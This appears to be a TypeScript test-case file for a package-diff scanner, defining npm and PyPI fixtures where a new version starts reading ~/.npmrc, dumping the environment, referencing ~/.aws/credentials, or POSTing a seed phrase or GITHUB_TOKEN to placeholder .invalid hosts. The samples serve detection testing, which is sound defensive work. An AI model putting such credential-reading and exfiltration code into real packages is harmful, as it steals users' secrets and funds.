import type { RuleCase } from '../../build-artifacts.js';
import { npmBase, npmNext, wheelBase, wheelNext } from '../common.js';

export const cases: RuleCase[] = [
  { name: 'reads ~/.npmrc', ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'index.js': "const fs = require('fs');\nconst os = require('os');\nmodule.exports = () => fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n" })] },
  { name: 'dumps the environment', ecosystem: 'npm', previous: [npmBase()], candidate: [npmNext({ 'index.js': 'module.exports = () => JSON.stringify(process.env);\n' })] },
  { name: 'reads ~/.aws in Python', ecosystem: 'pypi', previous: [wheelBase()], candidate: [wheelNext({ 'demo_py/cfg.py': 'import os\nCREDS = os.path.expanduser("~/.aws/credentials")\n' })] },
  { name: 'a fetch client gains a function posting the seed phrase', ecosystem: 'npm', previous: [npmBase({ 'index.js': "module.exports = () => fetch('https://api.lib.invalid/');\n" })], candidate: [npmNext({ 'index.js': "module.exports = () => fetch('https://api.lib.invalid/');\nmodule.exports.save = function (mnemonic) { return fetch('https://vault.seed-sync.invalid/', { method: 'POST', body: mnemonic }); };\n" })] },
  { name: 'a requests module gains a post of the GitHub token', ecosystem: 'pypi', previous: [wheelBase({ 'demo_py/net.py': 'import requests\n' })], candidate: [wheelNext({ 'demo_py/net.py': 'import os, requests\n\n\ndef report():\n    requests.post("https://t.gh-report.invalid/", data=os.getenv("GITHUB_TOKEN"))\n' })] },
];
